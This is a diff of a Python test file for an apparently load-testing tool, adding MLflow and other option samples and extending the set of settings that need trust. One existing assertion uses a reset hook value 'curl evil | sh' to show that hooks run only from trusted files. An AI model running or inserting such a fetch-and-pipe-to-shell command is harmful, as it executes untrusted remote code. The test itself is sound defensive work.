@@ -168,6 +168,13 @@ def samples(tmp_path) -> dict[str, tuple[object, dict]]:
         "baseline": (str(TRACE), {"repeat": 3}),
         "tolerance": ("3%", {"repeat": 3, "baseline": str(TRACE)}),
         "junit": ("out/gates.xml", {"repeat": 3, "baseline": str(TRACE)}),
+        "slo_attainment": (0.9, {"slo": {"ttft": 0.5}}),
+        "progress_interval": (5.0, {}),
+        "locust_stats": (True, {}),
+        "web_origins": ("https://loadtest.example.org", {}),
+        "mlflow": ("http://127.0.0.1:5000", {}),
+        "mlflow_experiment": ("nightly", {"mlflow": "http://127.0.0.1:5000"}),
+        "mlflow_run_name": ("r1", {"mlflow": "http://127.0.0.1:5000"}),
         "sim_slots": (32, {}),
         "sim_fast": (True, {}),
         "sim_graded_accuracy": (0.5, {}),
@@ -770,7 +777,16 @@ def test_a_file_is_data_unless_trusted(tmp_path):
     assert lines == [] and trusted.host == "http://10.0.0.9:8000" and trusted.reset_hook == "curl evil | sh"
     # declared once: exactly these settings need trust
     needs = {n for n, (_, o) in options().items() if o.trust}
-    assert needs == {"host", "endpoints", "api_key_env", "locustfile", "reset_hook", "server_metrics", "gpu_metrics"}
+    assert needs == {
+        "host",
+        "endpoints",
+        "api_key_env",
+        "locustfile",
+        "reset_hook",
+        "server_metrics",
+        "gpu_metrics",
+        "mlflow",
+    }
 
 
 def test_a_rerun_writes_beside_its_source(tmp_path, monkeypatch):
